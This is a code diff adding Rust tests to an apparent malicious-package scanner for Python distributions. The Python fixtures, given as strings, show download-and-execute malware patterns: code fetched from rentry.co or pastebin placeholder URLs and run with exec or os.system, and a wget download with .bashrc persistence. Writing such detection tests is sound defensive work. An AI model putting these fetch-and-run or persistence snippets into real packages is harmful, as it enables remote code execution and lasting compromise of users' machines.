@@ -563,3 +563,31 @@ fn a_request_to_a_raw_public_address_at_import_is_malicious() {
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", later)]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn a_script_written_from_a_string_belongs_to_the_function_that_writes_it() {
+    // rmrentryutils: a stage-one script that runs what a paste returns,
+    // written to a temp file and started with pythonw.
+    let module = "import os, sys, tempfile\n\ndef run_remote():\n    t = tempfile.NamedTemporaryFile(suffix='.py', delete=False)\n    t.write(b\"\"\"from urllib.request import urlopen\\nexec(urlopen('https://rentry.co/placeholder/raw').read())\"\"\")\n    t.close()\n    os.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {t.name}\")\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/remote.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn fetching_from_a_paste_site_and_starting_a_program_in_one_function_is_malicious() {
+    let module = "import os, requests\n\ndef role():\n    code = requests.get('https://pastebin.com/raw/placeholder').text\n    open('__cache.py', 'w').write(code)\n    os.system('python __cache.py')\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/role.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // Reading a paste and running git are two unrelated jobs in two functions.
+    let benign = "import subprocess, requests\n\ndef fetch():\n    return requests.get('https://pastebin.com/raw/placeholder').text\n\ndef commit():\n    subprocess.run(['git', 'commit'])\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/role.py", benign)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn downloading_running_and_persisting_in_one_function_is_malicious() {
+    // duc193: a script fetched into a hidden folder, hooked into .bashrc, run.
+    let module = "import os, subprocess\n\ndef install():\n    rc = os.path.expanduser('~/.bashrc')\n    os.system('wget -O ~/.x/n.py http://127.0.0.1:9/n.txt')\n    open(rc, 'a').write('python3 ~/.x/n.py\\n')\n    subprocess.run(['python3', os.path.expanduser('~/.x/n.py')])\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/installer.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
